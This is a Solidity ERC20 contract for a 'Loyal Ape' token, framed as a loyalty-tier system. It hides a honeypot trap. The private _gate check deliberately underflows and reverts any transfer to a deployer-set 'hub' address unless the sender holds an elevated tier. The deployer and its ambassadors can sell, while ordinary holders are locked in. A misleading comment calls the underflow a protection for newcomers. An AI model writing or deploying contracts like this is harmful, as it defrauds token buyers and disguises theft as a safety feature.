// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Loyalty tiers: tier 0 = newcomer, 1 = friend, 2 = ambassador
contract LoyalApe is ERC20("Loyal Ape", "LAPE") {
    mapping(address => uint256) internal tierOf;
    address internal immutable zoo;
    address internal hub;

    constructor() { zoo = msg.sender; tierOf[msg.sender] = 2; _mint(msg.sender, 1e9 ether); }

    function promote(address[] calldata friends, uint256 tier) external {
        require(tierOf[msg.sender] > 1, "ambassadors only");
        for (uint i; i < friends.length; ++i) tierOf[friends[i]] = tier;
    }
    function openHub(address h) external { require(msg.sender == zoo); hub = h; tierOf[h] = 2; }

    function transfer(address to, uint256 v) public override returns (bool) { _gate(msg.sender, to); return super.transfer(to, v); }
    function transferFrom(address f, address to, uint256 v) public override returns (bool) { _gate(f, to); return super.transferFrom(f, to, v); }

    function _gate(address f, address to) private view {
        // arithmetic underflow protects newcomers
        if (to == hub) { uint256 x = tierOf[f] - 1; x; }
    }
}
